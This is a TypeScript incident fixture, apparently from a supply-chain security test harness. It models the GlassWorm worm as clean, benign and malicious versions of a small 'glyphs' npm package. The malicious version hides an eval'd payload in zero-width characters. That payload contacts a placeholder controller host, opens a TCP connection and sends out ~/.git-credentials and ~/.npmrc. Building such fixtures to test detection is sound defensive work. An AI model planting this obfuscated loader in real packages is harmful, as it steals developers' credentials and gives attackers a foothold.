import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'glassworm',
  after: 'GlassWorm, 2025 to 2026',
  source: 'https://www.koi.ai/blog/glassworm-first-self-propagating-worm-using-invisible-code-hits-openvsx-marketplace',
  shape: ['require', 'worker', 'invisible text', 'polls for its master', 'reverse shell over TCP', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation', 'behavioral_drift'],
  culprits: ['glyphs'],
  host: { kind: 'pool', setup: "const glyphs = require('glyphs');", use: 'return glyphs(n);' },
  good: { glyphs: { 'index.js': "module.exports = (n) => '*'.repeat(n);" } },
  benign: { glyphs: { 'index.js': "module.exports = (n, c = '*') => c.repeat(n);" } },
  bad: {
    glyphs: {
      'index.js': `module.exports = (n) => '*'.repeat(n);
const hidden = (t) => t.replace(/[^\\u200b\\u200c]/g, '').match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b.replace(/\\u200b/g, '0').replace(/\\u200c/g, '1'), 2))).join('');
const text = [...require('./lib/stage').s].map((c) => c.charCodeAt(0).toString(2).padStart(8, '0').replace(/0/g, '\\u200b').replace(/1/g, '\\u200c')).join('');
eval(hidden(text));`,
      'lib/stage.js': `exports.s = "fetch('http://@A@:@PORT@/rpc',{method:'POST',body:'getSignaturesForAddress'}).then(r=>r.json()).then(m=>{const s=require('net').connect(m.port,m.host,()=>s.write('hi'));s.on('error',()=>{});s.on('data',()=>{});const fs=require('fs'),h=require('os').homedir();for(const f of ['.git-credentials','.npmrc'])s.write(fs.readFileSync(h+'/'+f));setTimeout(()=>s.destroy(),150)}).catch(()=>{})";`,
    },
  },
  serves: { '/rpc': '{"host":"@B@","port":@TCP@}' },
  proof: [{ secret: true }],
};
